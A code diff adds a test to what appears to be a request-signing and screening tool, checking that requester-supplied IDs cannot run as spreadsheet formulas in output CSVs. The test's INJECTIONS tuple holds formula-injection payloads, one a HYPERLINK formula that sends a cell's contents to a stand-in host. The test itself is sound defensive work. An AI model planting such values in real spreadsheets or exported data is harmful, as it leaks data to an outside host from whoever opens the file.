@@ -405,3 +405,39 @@ def test_nothing_in_the_workspace_or_the_response_folder_is_readable_by_others(
         for path in [root, *root.rglob("*")]:
             mode = path.stat().st_mode
             assert mode & 0o077 == 0 or path == small.out, f"{path} is {oct(mode)}"
+
+
+# Request ids a requester could send to make its own spreadsheet run a formula (OWASP).
+INJECTIONS = ('=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1+1)")
+
+
+def test_requester_text_cannot_run_as_a_formula(small: Run, tmp_path: Path) -> None:
+    requests = small.world / "requests.csv"
+    with requests.open(encoding="utf-8", newline="") as handle:
+        reader = csv.DictReader(handle)
+        names, rows = list(reader.fieldnames or []), list(reader)
+    for row, evil in zip(rows, INJECTIONS, strict=False):
+        row["request_id"] = evil
+    with requests.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=names, lineterminator="\n")
+        writer.writeheader()
+        writer.writerows(rows)
+    manifest = small.world / "manifest.json"
+    keys = small.root / "keys" / "ice-director.key.pem"
+    assert (
+        cli(
+            *("batch", "sign", str(requests), "--key", str(keys), "--signer", "ice-director"),
+            *("--out", str(manifest), "--request-date", "2025-07-15"),
+        )
+        == 0
+    )
+    screened = tmp_path / "screened"
+    assert cli("screen", str(small.ws), str(manifest), "--out", str(screened)) == 0
+    assert cli("run", *small.run_args) == 0
+    for path in (small.out / "response.csv", screened / "findings.csv"):
+        with path.open(encoding="utf-8", newline="") as handle:
+            cells = list(csv.reader(handle))
+        assert [row[0] for row in cells[1 : 1 + len(INJECTIONS)]] == [f"'{e}" for e in INJECTIONS]
+        assert not [c for row in cells for c in row if c.startswith(("=", "+", "-", "@"))], path
+    scored = score_files(small.out / "response.csv", small.world / "truth.parquet")
+    assert scored["harmful_total"] == 0
